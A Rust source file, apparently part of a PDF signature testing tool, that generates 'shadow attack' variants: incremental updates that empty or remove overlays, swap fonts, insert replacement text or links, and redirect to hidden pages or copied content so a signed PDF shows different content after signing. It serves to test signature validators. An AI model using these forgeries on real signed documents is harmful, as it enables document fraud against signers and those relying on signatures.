//! Shadow attacks: the signer signs a document that the attacker has prepared; the update only brings out what was hidden.

use super::Attack;
use super::base::{self, Form, catalog, page_1};
use super::forge::Forge;
use super::list::facts;

pub fn attacks(form: Form, victim: &[u8]) -> Vec<Attack> {
    let facts = facts(victim);
    let annotations = format!("8 0 R {} 0 R", facts.field);
    let with_form = |pages| catalog(pages, &format!("/AcroForm {} 0 R ", facts.form));
    let forge = || Forge::on(victim);
    let mut all = Vec::new();
    let mut add = |class: &'static str, name: &str, pdf: Vec<u8>| {
        all.push(Attack {
            class,
            name: name.to_owned(),
            form,
            pdf,
            cryptography_only: false,
        });
    };

    // The overlay that hid text of the page goes away.
    let drawing = "/Type /XObject /Subtype /Form /BBox [0 0 300 50]";
    add(
        "shadow-hide",
        "overlay-emptied",
        forge().stream(base::OVERLAY, drawing, "").finish(),
    );
    add(
        "shadow-hide",
        "overlay-freed",
        forge().free(base::OVERLAY).finish(),
    );
    let bare = page_1(&annotations, "").replace("/Over 16 0 R", "");
    add(
        "shadow-hide",
        "overlay-unlisted",
        forge().object(base::PAGE_1, &bare).finish(),
    );

    // What shows the content is exchanged.
    let font = "<< /Type /Font /Subtype /Type1 /BaseFont /ZapfDingbats >>";
    add(
        "shadow-replace",
        "font",
        forge().object(base::FONT, font).finish(),
    );
    let over = "BT /F1 13 Tf 90 700 Td (99) Tj ET";
    add(
        "shadow-replace",
        "overlay",
        forge().stream(base::OVERLAY, drawing, over).finish(),
    );
    let link = "<< /Type /Annot /Subtype /Link /Rect [90 690 200 710] /Border [0 0 0] /A << /S /URI /URI (http://a.example) >> >>";
    add(
        "shadow-replace",
        "link",
        forge().object(base::LINK, link).finish(),
    );

    // A second document inside the first one, which the update only points to.
    add(
        "shadow-hide-and-replace",
        "pages-in-catalog",
        forge()
            .object(base::CATALOG, &with_form(base::HIDDEN_PAGES))
            .finish(),
    );
    let hidden = victim
        .windows(9)
        .position(|window| window == b"19 0 obj\n")
        .unwrap();
    let content = String::from_utf8_lossy(&victim[hidden + 9..]).into_owned();
    let content = &content[..content.find("endobj").unwrap()];
    add(
        "shadow-hide-and-replace",
        "copied-content",
        forge().object(base::CONTENT_1, content).finish(),
    );
    add(
        "shadow-hide-and-replace",
        "entry-to-hidden-object",
        forge().entry(base::CONTENT_1, hidden).finish(),
    );
    let annotated = forge().entry(base::PAGE_2, hidden);
    add("shadow-hide-and-replace", "entry-of-page", annotated.finish());
    all
}
